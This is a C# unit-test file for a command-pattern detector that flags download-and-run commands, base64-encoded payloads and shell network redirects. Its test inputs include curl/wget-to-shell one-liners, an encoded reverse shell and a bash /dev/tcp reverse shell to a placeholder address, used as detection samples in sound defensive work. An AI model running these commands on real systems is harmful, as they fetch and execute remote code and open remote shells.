using Atalaya.Core.Analytics;

namespace Atalaya.Core.Tests.Analytics;

public sealed class CommandPatternsTests
{
    [Theory]
    [InlineData("curl -fsSL http://203.0.113.5/i.sh | sh", true)]
    [InlineData("wget -qO- http://198.51.100.3/x|bash", true)]
    [InlineData("cd /tmp; curl -s http://x/a | sudo python3 -", true)]
    [InlineData("curl -o /tmp/a http://x/a && chmod +x /tmp/a && /tmp/a", true)]
    [InlineData("wget http://x/a -O /tmp/a; chmod 755 /tmp/a", true)]
    [InlineData("curl -s http://x/status | grep ok", false)]
    [InlineData("curl -s http://x/a | shasum", false)]
    [InlineData("/usr/bin/apt-get update", false)]
    [InlineData("sh -c 'echo hi' | curl", false)]
    [InlineData("", false)]
    [InlineData(null, false)]
    public void Download_and_run(string? command, bool expected) => Assert.Equal(expected, CommandPatterns.IsDownloadAndRun(command));

    [Theory]
    [InlineData("echo aGVsbG8K | base64 -d | sh", true)]
    [InlineData("python3 -c 'import base64;exec(base64.b64decode(\"...\"))'", true)]
    [InlineData("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjEvNDQ0NCAwPiYx | bash", true)]
    [InlineData("/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", false)]
    [InlineData("test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r", false)]
    [InlineData(null, false)]
    public void Encoded_payload(string? command, bool expected) => Assert.Equal(expected, CommandPatterns.HasEncodedPayload(command));

    [Theory]
    [InlineData("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", true)]
    [InlineData("cat < /dev/udp/127.0.0.1/53", true)]
    [InlineData("ls /dev/tty", false)]
    public void Shell_network_redirect(string command, bool expected) => Assert.Equal(expected, CommandPatterns.HasShellNetworkRedirect(command));
}
